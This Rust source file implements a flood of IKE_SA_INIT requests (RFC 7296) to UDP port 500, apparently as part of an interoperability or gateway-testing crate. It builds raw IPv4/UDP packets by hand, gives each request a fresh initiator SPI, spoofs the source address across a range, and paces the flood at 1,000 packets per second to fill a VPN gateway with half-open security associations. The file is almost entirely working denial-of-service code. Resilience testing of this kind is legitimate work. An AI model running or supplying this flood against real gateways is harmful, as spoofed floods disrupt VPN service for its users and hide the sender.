//! Half-open IKE SAs: IKE_SA_INIT requests without a continuation (RFC 7296 section 2.6).

use casemate_interop::{Error, Result};
use socket2::{Domain, Protocol, Socket, Type};
use std::net::{IpAddr, Ipv4Addr, SocketAddr};
use std::time::{Duration, Instant};

const IKE_PORT: u16 = 500;
/// Requests of a flood per second. A device processes fewer; more would only fill the queues in front of
/// it.
const PACE: u32 = 1_000;
/// Length of the UDP header.
const UDP_HEADER: usize = 8;
/// IPPROTO_RAW: the caller provides the IP header.
const RAW: i32 = 255;

/// Sends the request, given in hexadecimal digits, `count` times, each time with another initiator SPI, from
/// spoofed addresses: `from` and the following ones, in turn.
pub(crate) fn flood(
    from: IpAddr,
    to: IpAddr,
    request: &str,
    [count, addresses]: [usize; 2],
) -> Result<String> {
    let (IpAddr::V4(from), IpAddr::V4(to)) = (from, to) else {
        return Err(Error::new("flood needs IPv4 addresses"));
    };
    let mut request =
        bytes(request).ok_or_else(|| Error::new("the request contains invalid hexadecimal digits"))?;
    let socket =
        Socket::new(Domain::IPV4, Type::RAW, Some(Protocol::from(RAW))).map_err(Error::context("raw"))?;
    let mut sent = 0_u32;
    let (start, addresses) = (Instant::now(), u32::try_from(addresses).map_err(Error::context(addresses))?);
    for number in 0..u32::try_from(count).map_err(Error::context(count))? {
        let Some(spi) = request.first_chunk_mut() else { return Err(Error::new("the request has no SPI")) };
        *spi = u64::from(number).saturating_add(1).to_be_bytes();
        let source =
            Ipv4Addr::from_bits(from.to_bits().wrapping_add(number.checked_rem(addresses).unwrap_or(0)));
        let packet = packet(source, to, &request);
        // A packet filter of this host may drop the packet while a gateway starts or stops.
        if socket.send_to(&packet, &SocketAddr::from((to, 0)).into()).is_ok() {
            sent = sent.saturating_add(1);
        }
        let due = Duration::from_secs(1).saturating_mul(number) / PACE;
        std::thread::sleep(due.saturating_sub(start.elapsed()));
    }
    Ok(format!("{sent} sent"))
}

/// Datagram between two IKE ports. The kernel sets length and checksum of the IP header; the UDP checksum
/// is optional (RFC 768).
fn packet(from: Ipv4Addr, to: Ipv4Addr, message: &[u8]) -> Vec<u8> {
    let mut packet = vec![0x45, 0, 0, 0, 0, 0, 0, 0, 64, 17, 0, 0];
    packet.extend(from.octets().into_iter().chain(to.octets()));
    let length = u16::try_from(UDP_HEADER.saturating_add(message.len())).unwrap_or(u16::MAX);
    packet.extend([IKE_PORT, IKE_PORT, length, 0].into_iter().flat_map(u16::to_be_bytes));
    packet.extend(message);
    packet
}

fn bytes(digits: &str) -> Option<Vec<u8>> {
    let pair =
        |at: usize| digits.get(at..at.checked_add(2)?).and_then(|pair| u8::from_str_radix(pair, 16).ok());
    (0..digits.len()).step_by(2).map(pair).collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn hexadecimal_digits_are_parsed() {
        assert_eq!(bytes("00ff10"), Some(vec![0, 255, 16]));
        assert_eq!(bytes("0"), None);
        assert_eq!(bytes("xy"), None);
    }
}
